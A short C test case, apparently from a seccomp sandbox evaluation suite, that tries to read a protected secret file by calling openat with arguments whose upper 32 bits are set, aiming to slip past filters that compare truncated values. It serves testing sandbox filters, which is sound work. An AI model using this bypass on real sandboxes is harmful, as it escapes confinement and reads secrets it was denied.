/* technique: hands numbers over whose upper 32 bits are set: a descriptor, flags, a mode that differ when they are
 * cut
 * source: seccomp(2): arguments are 64 bits wide
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"

int main(void)
{
	unsigned long high = 1ul << 32;

	return show((int)syscall(SYS_openat, high | (unsigned)AT_FDCWD, SECRET_FILE, high | O_RDONLY, high));
}
